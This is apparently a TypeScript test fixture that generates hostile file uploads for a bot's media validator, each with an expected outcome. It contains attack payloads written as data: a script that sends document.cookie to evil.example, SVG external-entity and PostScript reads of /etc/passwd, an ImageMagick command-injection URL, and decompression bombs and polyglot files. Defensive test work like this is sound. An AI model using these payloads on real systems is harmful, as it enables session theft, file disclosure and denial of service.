import { randomBytes } from 'node:crypto'
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import type { MediaType } from '../../../src/bot/features/media/media-type.ts'

export type HostileFile = {
  name: string
  bytes: Buffer
  /** What the bot makes of it: the type of a clean image, or why it is refused. */
  expected: MediaType | 'unknown type' | 'convert to JPEG' | 'damaged' | 'too many pixels' | 'too complex'
}

const draw = (width = 60, height = 40) =>
  sharp({ create: { width, height, channels: 3, background: '#f6c453' } })

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data])
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  check.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, check])
}

/** A PNG that says to have this size, whatever its data. */
function pngOf(width: number, height: number, data: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([1, 0, 0, 0, 0], 8)
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(data)),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** A GIF whose screen has this size, with one small frame repeated. */
function gifOf(width: number, height: number, frameCount: number): Buffer {
  const screen = Buffer.alloc(7)
  screen.writeUInt16LE(width, 0)
  screen.writeUInt16LE(height, 2)
  screen[4] = 0x80
  const palette = Buffer.from([0, 0, 0, 255, 255, 255])
  const frame = Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0])
  const control = Buffer.from([0x21, 0xf9, 4, 0, 10, 0, 0, 0])
  const frames = Array.from({ length: frameCount }, () => Buffer.concat([control, frame]))
  return Buffer.concat([Buffer.from('GIF89a'), screen, palette, ...frames, Buffer.from([0x3b])])
}

const box = (type: string, body: Buffer = Buffer.alloc(0)): Buffer => {
  const size = Buffer.alloc(4)
  size.writeUInt32BE(body.length + 8)
  return Buffer.concat([size, Buffer.from(type), body])
}
const isoFile = (brand: string) => box('ftyp', Buffer.from(`${brand}\0\0\0\0${brand}`))

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>'

export async function createHostileFiles(): Promise<HostileFile[]> {
  const [jpeg, png, webp, gif] = await Promise.all([
    draw().jpeg().toBuffer(),
    draw().png().toBuffer(),
    draw().webp().toBuffer(),
    draw().gif().toBuffer(),
  ])
  const located = await draw()
    .withExif({
      IFD3: { GPSLatitude: '52/1 31/1 0/1', GPSLongitude: '13/1 24/1 0/1' },
      IFD0: { Artist: 'Ada' },
    })
    .jpeg()
    .toBuffer()
  const rotated = await draw().withMetadata({ orientation: 6 }).jpeg().toBuffer()
  const commented = await draw()
    .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${SCRIPT}</x:xmpmeta>`)
    .png()
    .toBuffer()
  const tiff = await draw().tiff().toBuffer()
  const avif = await draw().avif().toBuffer()
  const inMiddle = (file: Buffer) => {
    const broken = Buffer.from(file)
    randomBytes(Math.min(40, file.length >> 1)).copy(broken, file.length >> 1)
    return broken
  }
  const file = (name: string, bytes: Buffer | string, expected: HostileFile['expected']): HostileFile => ({
    name,
    bytes: Buffer.from(bytes as string),
    expected,
  })
  return [
    file('an empty file', '', 'unknown type'),
    file('one byte', 'x', 'unknown type'),
    file('plain text named lamp.png', 'this is not an image', 'unknown type'),
    file('random bytes', randomBytes(5000), 'unknown type'),
    file('an HTML page', `<!doctype html>${SCRIPT}`, 'unknown type'),
    file('an HTML page after white space', `\n\n   <html>${SCRIPT}`, 'unknown type'),
    file('an SVG with a script', `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`, 'unknown type'),
    file(
      'an SVG after an XML declaration',
      `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
      'unknown type',
    ),
    file(
      'an SVG with an external entity',
      '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>',
      'unknown type',
    ),
    file(
      'an SVG that begins like a GIF',
      `GIF <svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`,
      'damaged',
    ),
    file('JavaScript', 'alert(1)', 'unknown type'),
    file('a PDF', '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj', 'unknown type'),
    file('PostScript', '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file', 'unknown type'),
    file(
      'an ImageMagick script',
      "push graphic-context\nfill 'url(https://evil.example/|id)'",
      'unknown type',
    ),
    file('a ZIP archive', 'PK\x03\x04aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', 'unknown type'),
    file('a GZIP bomb', deflateSync(Buffer.alloc(10_000_000)), 'unknown type'),
    file('a program for Linux', '\x7fELF\x02\x01\x01', 'unknown type'),
    file('a program for Windows', `MZ${'\0'.repeat(100)}`, 'unknown type'),
    file('a TIFF', tiff, 'convert to JPEG'),
    file('an AVIF', avif, 'convert to JPEG'),
    file('a HEIC', isoFile('heic'), 'convert to JPEG'),
    file('a BMP', `BM${'\0'.repeat(60)}`, 'convert to JPEG'),
    file('only the signature of a PNG', png.subarray(0, 8), 'unknown type'),
    file('only the header of a PNG', png.subarray(0, 33), 'damaged'),
    file('half a PNG', png.subarray(0, png.length >> 1), 'damaged'),
    file('half a JPEG', jpeg.subarray(0, jpeg.length >> 1), 'damaged'),
    file('half a WebP', webp.subarray(0, webp.length >> 1), 'damaged'),
    file('a GIF without frames', gif.subarray(0, 13), 'damaged'),
    file('a PNG with a broken middle', inMiddle(png), 'damaged'),
    file('a PNG without data', pngOf(10, 10), 'damaged'),
    file('a PNG of 30,000 by 30,000 pixels', pngOf(30_000, 30_000, Buffer.alloc(1000)), 'too many pixels'),
    file('a PNG bomb', pngOf(20_000, 20_000, Buffer.alloc(20_000 * 2501)), 'too many pixels'),
    file('a PNG of 20,001 pixels in a row', pngOf(20_001, 1), 'too many pixels'),
    // No such header can be read.
    file('a PNG of 2,147,483,647 pixels in a row', pngOf(2_147_483_647, 1), 'damaged'),
    file('a PNG without pixels', pngOf(0, 0), 'damaged'),
    // Its frames are drawn, and not the rest of its screen.
    file('a GIF of 65,535 by 65,535 pixels with a frame of one', gifOf(65_535, 65_535, 1), 'image/gif'),
    file('a GIF of 3,000 frames', gifOf(2000, 2000, 3000), 'too complex'),
    file('a JPEG marker and nothing more', Buffer.from([0xff, 0xd8, 0xff, 0xe0]), 'damaged'),
    file('a JPEG of zeros', Buffer.concat([jpeg.subarray(0, 20), Buffer.alloc(2000)]), 'damaged'),
    file(
      'a JPEG followed by a ZIP archive',
      Buffer.concat([jpeg, Buffer.from('PK\x03\x04secret.txt')]),
      'image/jpeg',
    ),
    file('a JPEG followed by a page with a script', Buffer.concat([jpeg, Buffer.from(SCRIPT)]), 'image/jpeg'),
    file('a PNG followed by a program', Buffer.concat([png, Buffer.from('\x7fELF')]), 'image/png'),
    file('a GIF that is also JavaScript', Buffer.concat([gif, Buffer.from('*/=1;alert(1)//')]), 'image/gif'),
    file('a PNG with a script in its metadata', commented, 'image/png'),
    file('a photo with its place', located, 'image/jpeg'),
    file('a photo on its side', rotated, 'image/jpeg'),
    file('a WebP with a page behind it', Buffer.concat([webp, Buffer.from(SCRIPT)]), 'image/webp'),
  ]
}
